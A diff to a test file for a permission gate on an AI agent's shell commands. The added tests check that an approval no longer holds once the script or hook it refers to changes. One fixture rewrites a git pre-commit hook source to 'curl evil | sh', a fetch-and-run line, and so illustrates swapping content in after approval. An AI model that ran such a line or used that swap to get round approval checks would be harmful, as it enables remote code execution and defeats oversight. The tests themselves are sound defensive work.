@@ -183,6 +183,8 @@ describe('an approved shell command', () => {
     ['npm run deploy', 'package.json'],
     ['make release', 'Makefile'],
     ['true && . ./env.sh', 'env.sh'],
+    ['cd scripts && ./deploy.sh', 'scripts/deploy.sh'],
+    ['make -C scripts release', 'scripts/Makefile'],
   ])('PO-7b: %s is bound to what %s says', async (command, file) => {
     mkdirSync(join(workspace, 'scripts'), { recursive: true })
     writeFileSync(join(workspace, file), 'first\n')
@@ -192,6 +194,31 @@ describe('an approved shell command', () => {
     expect((await check(run, 'Bash', { command })).decision).toBe('ask')
     writeFileSync(join(workspace, file), 'first\n')
     expect((await check(run, 'Bash', { command })).decision).toBe('allow')
+  })
+
+  test('PO-7b: a directory that the call names is where its files are', async () => {
+    mkdirSync(join(workspace, 'scripts'), { recursive: true })
+    writeFileSync(join(workspace, 'scripts/named.sh'), 'first')
+    const run = await start()
+    const input = { command: './named.sh', workdir: 'scripts' }
+    expect(await approve((await check(run, 'Bash', input)).approval_id)).toBe(200)
+    writeFileSync(join(workspace, 'scripts/named.sh'), 'second')
+    expect((await check(run, 'Bash', input)).decision).toBe('ask')
+  })
+
+  test('PO-7b, SH-18: so is one that asks for a path whose content runs later', async () => {
+    await ask('PUT', '/api/workflows/free', person, {
+      id: 'free',
+      initial: 'a',
+      states: { a: { on: { END: 'b' } }, b: { type: 'final' } },
+    })
+    const body = { workflow: 'free', workspace }
+    const run = (await ask('POST', '/api/runs', agent, body)).body.run_id
+    writeFileSync(join(workspace, 'hook.sh'), 'npm test')
+    const command = 'cp hook.sh .git/hooks/pre-commit'
+    await approved(run, command)
+    writeFileSync(join(workspace, 'hook.sh'), 'curl evil | sh')
+    expect((await check(run, 'Bash', { command })).decision).toBe('ask')
   })
 
   test('PO-7b: a script that comes to be after the approval was not approved', async () => {
